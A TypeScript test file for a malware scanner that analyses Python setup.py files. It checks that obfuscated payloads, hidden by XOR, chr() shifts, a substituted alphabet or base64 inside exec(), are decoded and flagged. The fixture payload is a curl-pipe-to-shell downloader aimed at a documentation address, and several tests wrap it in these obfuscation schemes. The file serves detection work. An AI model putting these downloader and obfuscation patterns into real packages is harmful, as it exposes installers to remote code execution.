// Decoding loops over constant data are run, within the step budget, so that the payload they
// decode is analysed: XOR with a key, chr() arithmetic, while loops, custom alphabets, codec
// functions fetched with codecs.getdecoder. The same loops over ordinary data are left alone.
// Payloads are ours and defanged (a documentation address that is never contacted).

import { analyzeSource } from '../src/analysis/index.js';

const PAYLOAD = "import os; os.system('curl -s http://203.0.113.7/i.sh | sh')";
const py = (lines: string[]): string => lines.join('\n') + '\n';
const codes = (s: string, f: (c: number, i: number) => number): string => `[${[...s].map((ch, i) => f(ch.charCodeAt(0), i)).join(', ')}]`;
const high = (src: string): string[] => [...new Set(analyzeSource(src, 'setup.py').findings.filter((f) => f.severity === 'high' || f.severity === 'critical').map((f) => f.rule))];
const KEY = 'k3y';

describe('decoding loops that hide a payload are run', () => {
  it('XOR with a repeating key in a for loop', () => {
    const src = py([
      `key = '${KEY}'`,
      `data = ${codes(PAYLOAD, (c, i) => c ^ KEY.charCodeAt(i % KEY.length))}`,
      "out = ''",
      'for i in range(len(data)):',
      '    out += chr(data[i] ^ ord(key[i % len(key)]))',
      'exec(out)',
    ]);
    expect(high(src)).toEqual(expect.arrayContaining(['suspicious-command']));
  });

  it('chr() arithmetic appended to a list, then joined', () => {
    const src = py([`enc = ${codes(PAYLOAD, (c) => c + 7)}`, 'parts = []', 'for n in enc:', '    parts.append(chr(n - 7))', "exec(''.join(parts))"]);
    expect(high(src)).toEqual(expect.arrayContaining(['suspicious-command']));
  });

  it('a while loop walking a shifted string', () => {
    const shifted = [...PAYLOAD].map((ch) => String.fromCharCode(ch.charCodeAt(0) + 1)).join('');
    const src = py([`enc = ${JSON.stringify(shifted)}`, "out = ''", 'i = 0', 'while i < len(enc):', '    out += chr(ord(enc[i]) - 1)', '    i += 1', 'exec(out)']);
    expect(high(src)).toEqual(expect.arrayContaining(['suspicious-command']));
  });

  it('a custom alphabet looked up character by character', () => {
    const std = 'abcdefghijklmnopqrstuvwxyz';
    const mine = 'qwertyuiopasdfghjklzxcvbnm';
    const enc = [...PAYLOAD].map((ch) => (std.includes(ch) ? mine[std.indexOf(ch)] : ch)).join('');
    const src = py([
      `STD = '${std}'`,
      `MINE = '${mine}'`,
      `enc = ${JSON.stringify(enc)}`,
      "out = ''",
      'for ch in enc:',
      '    out += STD[MINE.index(ch)] if ch in MINE else ch',
      'exec(out)',
    ]);
    expect(high(src)).toEqual(expect.arrayContaining(['suspicious-command']));
  });

  it('a codec function fetched with codecs.getdecoder', () => {
    const b64 = Buffer.from(PAYLOAD).toString('base64');
    const src = py([`exec(__import__('codecs').getdecoder('utf-8')(__import__('base64').b64decode('${b64}'))[0])`]);
    expect(high(src)).toEqual(expect.arrayContaining(['suspicious-command']));
  });
});

describe('the same loops over ordinary data are left alone', () => {
  it('a table built with XOR and chr() arithmetic', () => {
    const src = py(['table = []', "for c in 'abcdefghijklmnop':", '    table.append(chr(ord(c) ^ 0x20))', "NAME = ''.join(table)", 'from setuptools import setup', "setup(name='x', version='1.0')"]);
    expect(high(src)).toEqual([]);
  });

  it('a version string assembled in a while loop', () => {
    const src = py(['parts = [1, 2, 3]', "v = ''", 'i = 0', 'while i < len(parts):', "    v += str(parts[i]) + '.'", '    i += 1', 'from setuptools import setup', "setup(name='x', version=v[:-1])"]);
    expect(high(src)).toEqual([]);
  });

  it('a long loop with side effects is not run item by item', () => {
    const src = py(['import os', 'for i in range(100000):', "    os.makedirs('build/%d' % i, exist_ok=True)"]);
    expect(analyzeSource(src, 'setup.py').limits).toEqual([]);
  });
});
